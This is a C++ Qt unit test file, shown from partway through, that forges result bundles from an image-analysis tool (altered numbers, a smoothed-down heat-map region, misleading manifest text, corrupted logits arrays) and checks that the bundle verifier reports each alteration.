    QTemporaryDir folder;
    const Analysis analysis = elsewhere(analysisIn(folder), 0, "bf16");
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysis, bundle));
    // Drawing its pages would take most of the time here.
    fixture::overwrite(bundle / "report.pdf", "none");
    const Analysis fresh = elsewhere(analysis, 0.0025F, "bf16");
    const VerifyReport honest = runAgain(bundle, fresh);
    QVERIFY2(!fixture::has(honest, false, "result.json"), fixture::linesOf(honest).constData());
    inResult([&](Json& result) {
        Json& number = result[Json::json_pointer(pointer.toStdString())];
        number = number.is_number_integer() ? Json(number.get<int>() + static_cast<int>(by))
                                            : Json(number.get<double>() + by);
    })(bundle);
    const VerifyReport report = runAgain(bundle, fresh);
    QVERIFY2(fixture::has(report, false, "the analysis gives"),
             fixture::linesOf(report).constData());
}

void TestForgedBundle::aDentInAMapIsFound()
{
    // A region whose values lie a little above the threshold is pushed below it, smoothly.
    QTemporaryDir folder;
    Analysis analysis = fixture::analysis(folder, {.heads = 3, .peak = 0.51F});
    fixture::calibrateByClass(analysis);
    const Analysis honest = elsewhere(analysis, 0, "bf16");
    QCOMPARE(honest.findings.regions.size(), std::size_t{1});
    auto maps = std::make_shared<MapSet>(*honest.maps);
    std::vector<float> cells(maps->combined.data(),
                             maps->combined.data() +
                                 maps->combined.width() * maps->combined.height());
    for (int j = 0; j < maps->combined.height(); ++j)
        for (int i = 0; i < maps->combined.width(); ++i) {
            const float away = static_cast<float>((i - 20) * (i - 20) + (j - 15) * (j - 15));
            cells[static_cast<std::size_t>(j * maps->combined.width() + i)] -=
                0.036F * std::exp(-away / 200);
        }
    maps->combined = mapLike(maps->combined, std::move(cells));
    Analysis forged = honest;
    forged.maps = maps;
    forged.findings = findingsOf(*maps, forged.pack, forged.quality.qualityClass);
    QVERIFY(forged.findings.regions.empty());
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(forged, bundle));
    const VerifyReport report = runAgain(bundle, honest);
    QVERIFY2(fixture::has(report, false, "map.png: largest difference"),
             fixture::linesOf(report).constData());
}

void TestForgedBundle::marksOfOneRunAloneAreSaid()
{
    QTemporaryDir folder;
    Analysis analysis = fixture::analysis(folder, {.heads = 3, .peak = 0.4985F});
    fixture::calibrateByClass(analysis);
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(elsewhere(analysis, 0, "bf16"), bundle));
    const VerifyReport report = runAgain(bundle, elsewhere(analysis, 0.0025F, "bf16"));
    QVERIFY2(report.ok(), fixture::linesOf(report).constData());
    QVERIFY2(fixture::has(report, CheckState::NotChecked, "places that the second run alone marks"),
             fixture::linesOf(report).constData());
}

void TestForgedBundle::firstManifests_data()
{
    QTest::addColumn<QString>("pointer");
    QTest::addColumn<QString>("value");
    QTest::addColumn<bool>("ok");
    QTest::addColumn<QString>("line");
    QTest::newRow("a path") << "/picture/path"
                            << "/home/desk/photo.png" << true
                            << "that the picture lay at \"/home/desk/photo.png\"";
    QTest::newRow("a sentence for a path") << "/picture/path"
                                           << "/home/desk/confirmed as AI-made by AFP" << false
                                           << "names a path that is not the picture's";
    QTest::newRow("a sentence of twenty letters")
        << "/created"
        << "CONFIRMED FAKE (AFP)" << false << "names another run than result.json";
}

void TestForgedBundle::firstManifests()
{
    QFETCH(QString, pointer);
    QFETCH(QString, value);
    QFETCH(bool, ok);
    QFETCH(QString, line);
    QTemporaryDir folder;
    const auto bundle = fixture::pathIn(folder, "bundle");
    QVERIFY(writeBundle(analysisIn(folder), bundle));
    inResult(asOfFirstWords)(bundle);
    inManifest([&](Json& manifest) {
        manifest[Json::json_pointer(pointer.toStdString())] = value.toStdString();
    })(bundle);
    const auto report = verifyBundle(bundle);
    QVERIFY(report);
    QVERIFY2(fixture::has(*report, ok ? CheckState::Stated : CheckState::Wrong, line.toStdString()),
             fixture::linesOf(*report).constData());
}

void TestForgedBundle::logitsAreCompared()
{
    QTemporaryDir folder;
    Analysis analysis =
        fixture::analysis(folder, {.heads = 1, .inferenceMode = InferenceMode::Resized});
    auto maps = std::make_shared<MapSet>(*analysis.maps);
    maps->heads[0].logits = HeatMap(16, 16, 320, 240, std::vector<float>(256, -1.5F));
    const auto file = fixture::pathIn(folder, "logits-head-1.npy");
    const auto checked = [&](const QByteArray& bytes) {
        fixture::overwrite(file, bytes);
        VerifyReport report;
        checkLogits(report, folder.path().toStdString(), *maps, 0.01);
        return report;
    };
    const QByteArray honest = QByteArray::fromStdString(npyBytes(maps->heads[0].logits));
    QVERIFY(checked(honest).ok());
    const auto with = [&](float value) {
        QByteArray bytes = honest;
        std::memcpy(bytes.data() + bytes.size() - 4, &value, sizeof value);
        return checked(bytes);
    };
    QVERIFY(with(-1.51F).ok());
    QVERIFY(fixture::has(with(2.0F), false, "largest difference as probabilities"));
    QVERIFY(!with(std::numeric_limits<float>::quiet_NaN()).ok());
    QVERIFY(fixture::has(checked("MZ this is no array"), false, "is no array"));
}

QTEST_MAIN(TestForgedBundle)
#include "tst_forged_bundle.moc"
